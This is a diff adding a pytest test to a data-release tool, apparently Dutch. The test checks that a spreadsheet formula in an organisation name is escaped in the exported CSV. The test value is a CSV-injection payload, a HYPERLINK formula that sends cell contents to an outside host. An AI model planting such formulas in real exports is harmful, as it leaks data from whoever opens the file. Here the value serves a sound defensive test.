@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 from pathlib import Path
 
@@ -142,6 +143,17 @@ def test_a_candidate_file_that_changed_after_the_checks_is_not_published(factory
     with pytest.raises(ReleaseError, match=r"bijstand_per_regio\.csv not as recorded"):
         publish.publish(factory.settings.paths, factory.ledger, "open")
     assert current(factory.settings.paths, "open") is None
+
+
+def test_a_formula_is_text_in_the_csv_and_itself_elsewhere(factory, ask):
+    """A name that an organisation or supplier chose; whoever opens the CSV in a spreadsheet runs nothing."""
+    formula = '=HYPERLINK("http://elders/?"&A1)'
+    factory.settings = factory.settings.model_copy(update={"name": formula})
+    release = factory.candidate("intern")
+    with (release.folder / "release_info.csv").open(newline="") as file:
+        told = {row["naam"]: row["waarde"] for row in csv.DictReader(file)}
+    assert told["fabriek"] == f"'{formula}"
+    assert ask(release, "SELECT waarde FROM release_info WHERE naam = 'fabriek'") == [(formula,)]
 
 
 def test_the_ledger_holds_fingerprints_norms_and_counts(factory):
